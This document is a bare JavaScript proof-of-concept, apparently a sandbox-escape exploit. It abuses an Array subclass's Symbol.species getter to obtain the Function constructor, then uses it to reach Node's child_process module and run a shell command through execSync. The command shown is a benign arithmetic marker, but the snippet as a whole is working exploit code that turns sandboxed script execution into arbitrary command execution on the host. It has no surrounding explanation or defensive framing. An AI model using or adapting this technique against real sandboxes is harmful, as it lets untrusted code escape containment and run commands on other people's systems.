class A extends Array{ static get [Symbol.species](){ return Function } }
try{ A.from(['a']).map(String) }catch{};
const G=A[Symbol.species]; G('process.mainModule.require("child_process").execSync("expr 40 + 1001",{stdio:"inherit"})')();
